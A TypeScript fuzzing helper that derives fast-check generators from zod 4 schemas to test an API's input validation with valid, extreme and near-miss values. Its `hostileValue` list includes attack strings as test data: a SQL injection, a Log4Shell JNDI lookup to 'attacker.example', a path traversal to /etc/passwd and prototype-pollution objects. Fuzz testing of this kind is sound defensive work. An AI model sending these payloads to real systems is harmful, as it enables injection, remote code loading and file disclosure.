/*
 * fast-check arbitraries derived from zod 4 schemas. The published converters target zod 3, so
 * this covers the zod types the API's inputs are made of; a schema of any other type fails
 * loudly, so that a new procedure never goes unfuzzed without anyone noticing.
 */
import fc, { type Arbitrary } from "fast-check";
import type { z } from "zod";

/** A string longer than any input cap, to reach past length checks. */
const OVERSIZED_STRING_LENGTH = 100_000;
/** Keeps generated strings short when a schema sets no maximum, so runs stay fast. */
const UNBOUNDED_STRING_EXTRA = 64;

interface CheckDef {
  check: string;
  format?: string;
  pattern?: RegExp;
  minimum?: number;
  maximum?: number;
  value?: number | Date;
  inclusive?: boolean;
}

interface SchemaDef {
  type: string;
  checks?: { _zod: { def: CheckDef } }[];
  format?: string;
  pattern?: RegExp;
  shape?: Record<string, z.ZodType>;
  innerType?: z.ZodType;
  in?: z.ZodType;
  out?: z.ZodType;
  element?: z.ZodType;
  keyType?: z.ZodType;
  valueType?: z.ZodType;
  options?: z.ZodType[];
  entries?: Record<string, string | number>;
  values?: unknown[];
}

export class UnsupportedSchemaError extends Error {
  override name = "UnsupportedSchemaError";
}

function defOf(schema: z.ZodType): SchemaDef {
  return (schema as unknown as { _zod: { def: SchemaDef } })._zod.def;
}

function checksOf(def: SchemaDef): CheckDef[] {
  return (def.checks ?? []).map((check) => check._zod.def);
}

/**
 * Whether a value passes the schema's own checks; custom refinements (the common-password
 * list) are left to the server, since a random value almost never trips them.
 */
function passesChecks(schema: z.ZodType, value: unknown): boolean {
  return (schema.safeParse(value).error?.issues ?? []).every((issue) => issue.code === "custom");
}

function stringArbitrary(schema: z.ZodType, def: SchemaDef): Arbitrary<string> {
  const checks = checksOf(def);
  const minLength = Math.max(0, ...checks.filter((c) => c.check === "min_length").map((c) => c.minimum ?? 0));
  const maxLength = Math.min(
    minLength + UNBOUNDED_STRING_EXTRA,
    ...checks.filter((c) => c.check === "max_length").map((c) => c.maximum ?? Infinity),
  );
  const pattern = def.pattern ?? checks.find((c) => c.check === "string_format" && c.pattern)?.pattern;
  // The filter catches what the bounds cannot say: zod counts UTF-16 units where fast-check
  // counts code points, and a trim runs before the length checks.
  const candidates = pattern
    ? fc.stringMatching(pattern)
    : fc.oneof(
        fc.string({ minLength, maxLength, unit: "grapheme-ascii" }),
        fc.string({ minLength, maxLength, unit: "binary" }),
      );
  return candidates.filter((value) => passesChecks(schema, value));
}

function numberArbitrary(def: SchemaDef): Arbitrary<number> {
  const checks = checksOf(def);
  const integer = checks.some((c) => c.check === "number_format" && c.format?.includes("int"));
  const lower = checks.find((c) => c.check === "greater_than");
  const upper = checks.find((c) => c.check === "less_than");
  if (integer) {
    const min = lower ? Number(lower.value) + (lower.inclusive ? 0 : 1) : Number.MIN_SAFE_INTEGER;
    const max = upper ? Number(upper.value) - (upper.inclusive ? 0 : 1) : Number.MAX_SAFE_INTEGER;
    return fc.integer({ min, max });
  }
  return fc.double({
    noNaN: true,
    noDefaultInfinity: true,
    ...(lower ? { min: Number(lower.value), minExcluded: !lower.inclusive } : {}),
    ...(upper ? { max: Number(upper.value), maxExcluded: !upper.inclusive } : {}),
  });
}

function dateArbitrary(def: SchemaDef): Arbitrary<Date> {
  const checks = checksOf(def);
  const lower = checks.find((c) => c.check === "greater_than")?.value;
  const upper = checks.find((c) => c.check === "less_than")?.value;
  return fc.date({
    noInvalidDate: true,
    ...(lower === undefined ? {} : { min: new Date(lower) }),
    ...(upper === undefined ? {} : { max: new Date(upper) }),
  });
}

/** Values the schema accepts (before any transform), as a client following the types would send. */
export function validInputOf(schema: z.ZodType): Arbitrary<unknown> {
  const def = defOf(schema);
  switch (def.type) {
    case "string":
      return stringArbitrary(schema, def);
    case "number":
      return numberArbitrary(def);
    case "boolean":
      return fc.boolean();
    case "date":
      return dateArbitrary(def);
    case "null":
      return fc.constant(null);
    case "undefined":
    case "void":
      return fc.constant(undefined);
    case "enum":
      return fc.constantFrom(...Object.values(def.entries ?? {}));
    case "literal":
      return fc.constantFrom(...(def.values ?? []));
    case "optional":
      return fc.option(validInputOf(def.innerType!), { nil: undefined });
    case "nullable":
      return fc.option(validInputOf(def.innerType!), { nil: null });
    case "default":
    case "prefault":
    case "readonly":
      return fc.option(validInputOf(def.innerType!), { nil: undefined });
    case "pipe":
      return pipeArbitrary(def.in!, def.out!);
    case "array":
      return arrayArbitrary(def);
    case "record":
      return fc
        .dictionary(validInputOf(def.keyType!) as Arbitrary<string>, validInputOf(def.valueType!), { maxKeys: 4 })
        .filter((value) => passesChecks(schema, value));
    case "union":
      return fc.oneof(...def.options!.map(validInputOf));
    case "object":
      return fc.record(
        Object.fromEntries(Object.entries(def.shape ?? {}).map(([key, field]) => [key, validInputOf(field)])),
        { requiredKeys: requiredKeysOf(def) },
      );
    default:
      throw new UnsupportedSchemaError(`no arbitrary for zod type "${def.type}"; add it to zod-arbitraries.ts`);
  }
}

function arrayArbitrary(def: SchemaDef): Arbitrary<unknown[]> {
  const checks = checksOf(def);
  const minLength = Math.max(0, ...checks.filter((c) => c.check === "min_length").map((c) => c.minimum ?? 0));
  const maxLength = Math.min(
    minLength + 8,
    ...checks.filter((c) => c.check === "max_length").map((c) => c.maximum ?? Infinity),
  );
  return fc.array(validInputOf(def.element!), { minLength, maxLength });
}

/**
 * A pipe's later stage holds the constraints (`z.string().trim().pipe(z.email())`), so values
 * come from it and are kept when the first stage accepts them too; after a transform only the
 * first stage says what may be sent.
 */
function pipeArbitrary(first: z.ZodType, then: z.ZodType): Arbitrary<unknown> {
  if (defOf(then).type === "transform") return validInputOf(first);
  return validInputOf(then).filter((value) => passesChecks(first, value));
}

/** Optional fields may be left out, not only set to `undefined`, as JSON clients do. */
function requiredKeysOf(def: SchemaDef): string[] {
  return Object.entries(def.shape ?? {})
    .filter(([, field]) => !["optional", "default", "prefault"].includes(defOf(field).type))
    .map(([key]) => key);
}

/** Nested `depth` levels deep, as a value. */
const nested = (depth: number): unknown => Array.from({ length: depth }).reduce<unknown>((inner) => [inner], 0);

/** Text Postgres cannot store, in and around otherwise ordinary text. */
export const unstorableText: Arbitrary<string> = fc
  .tuple(
    fc.string({ unit: "binary", maxLength: 16 }),
    fc.constantFrom("\u0000", "\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDC00\uD800"),
    fc.string({ unit: "binary", maxLength: 16 }),
  )
  .map(([before, unstorable, after]) => `${before}${unstorable}${after}`);

/** Numbers at and past the edges of what JSON, JavaScript and Postgres columns hold. */
export const extremeNumber: Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    -0,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
    Number.MIN_VALUE,
    Number.MAX_SAFE_INTEGER + 2,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 63,
    NaN,
    Infinity,
    -Infinity,
  ),
  fc.double(),
);

/** Dates at and past the edges of what Postgres and JavaScript hold, invalid ones included. */
export const extremeDate: Arbitrary<Date> = fc.oneof(
  fc.constantFrom(
    new Date(8.64e15),
    new Date(-8.64e15),
    new Date("+300000-01-01T00:00:00Z"),
    new Date("0000-01-01T00:00:00Z"),
    new Date("-004713-11-24T00:00:00Z"),
    new Date(Number.NaN),
  ),
  fc.date(),
);

/** What a hostile client puts where a value belongs. */
export const hostileValue: Arbitrary<unknown> = fc.oneof(
  fc.anything({ withDate: true, withBigInt: false, withNullPrototype: true, maxDepth: 3 }),
  fc.string({ unit: "binary" }),
  unstorableText,
  extremeNumber,
  extremeDate,
  fc.constantFrom(
    "' OR 1=1 --",
    "${jndi:ldap://attacker.example/a}",
    "../../etc/passwd",
    "x".repeat(OVERSIZED_STRING_LENGTH),
    -1,
    [],
    {},
    JSON.parse('{"__proto__": {"polluted": true}}') as unknown,
    Array.from({ length: 20_000 }, () => 0),
    Array.from({ length: 2_000 }, () => "x".repeat(20)),
    nested(40),
  ),
);

/**
 * JSON text no client library would produce: nested past any cap, numbers past any range,
 * escapes of text Postgres cannot store, a huge array, a key that pollutes prototypes.
 */
/** JSON text nested past the server's cap, from just past it to deep enough to overflow a stack. */
export const deeplyNestedJson: Arbitrary<string> = fc
  .tuple(
    // fast-check favours small integers; the depths that overflow a stack are named outright.
    fc.oneof(fc.integer({ min: 33, max: 1_000 }), fc.constantFrom(10_000, 30_000, 100_000)),
    fc.boolean(),
  )
  .map(([depth, asArrays]) =>
    asArrays ? `${"[".repeat(depth)}${"]".repeat(depth)}` : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
  );

export const hostileJsonText: Arbitrary<string> = fc.oneof(
  deeplyNestedJson,
  fc.constantFrom(
    '{"value": 1e400}',
    '{"value": -1e400}',
    '{"value": 123456789012345678901234567890}',
    '{"value": "\\u0000"}',
    '{"value": "\\ud800"}',
    '{"value": "a\\udfffb"}',
    '{"\\u0000": 1}',
    '{"__proto__": {"admin": true}}',
    '{"a": 1, "a": 2}',
    `[${Array.from({ length: 100_000 }, () => "0").join(",")}]`,
    '"\\u0000"',
    "nul\u0000",
  ),
);

/**
 * Inputs one step away from valid: an object with one field replaced by a hostile value,
 * dropped, or joined by an unknown key; anything else replaced outright.
 */
export function nearMissInputOf(schema: z.ZodType): Arbitrary<unknown> {
  const outer = defOf(schema);
  const def = outer.type === "pipe" ? defOf(outer.in!) : outer;
  const keys = Object.keys(def.shape ?? {});
  if (def.type !== "object" || keys.length === 0) return hostileValue;
  return fc
    .tuple(
      validInputOf(schema) as Arbitrary<Record<string, unknown>>,
      fc.constantFrom(...keys),
      fc.constantFrom("replace", "drop", "extra"),
      hostileValue,
    )
    .map(([valid, key, how, hostile]) => {
      const input: Record<string, unknown> = { ...valid };
      if (how === "replace") input[key] = hostile;
      else if (how === "drop") delete input[key];
      else Object.defineProperty(input, "role", { value: hostile, enumerable: true });
      return input;
    });
}

/** The places in a value that hold a number, a boolean or a date, as paths of keys. */
function typedLeavesOf(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === "number" || typeof value === "boolean" || value instanceof Date) return [path];
  if (Array.isArray(value)) return value.flatMap((item, index) => typedLeavesOf(item, [...path, index]));
  if (value !== null && typeof value === "object") {
    return Object.entries(value).flatMap(([key, field]) => typedLeavesOf(field, [...path, key]));
  }
  return [];
}

function withTextAt(value: unknown, [key, ...rest]: (string | number)[]): unknown {
  if (key === undefined) return value instanceof Date ? value.toISOString() : String(value);
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  copy[key] = withTextAt(copy[key], rest);
  return copy;
}

/**
 * A valid input with one of its numbers, booleans or dates sent as text ("5", "true", an ISO
 * date): what a coercing validator takes and a strict one refuses. Inputs without such a value
 * come out valid, so callers keep only the ones the schema refuses.
 */
export function typedValueAsTextOf(schema: z.ZodType): Arbitrary<unknown> {
  return fc.tuple(validInputOf(schema), fc.nat()).map(([valid, pick]) => {
    const leaves = typedLeavesOf(valid);
    return leaves.length === 0 ? valid : withTextAt(valid, leaves[pick % leaves.length]!);
  });
}
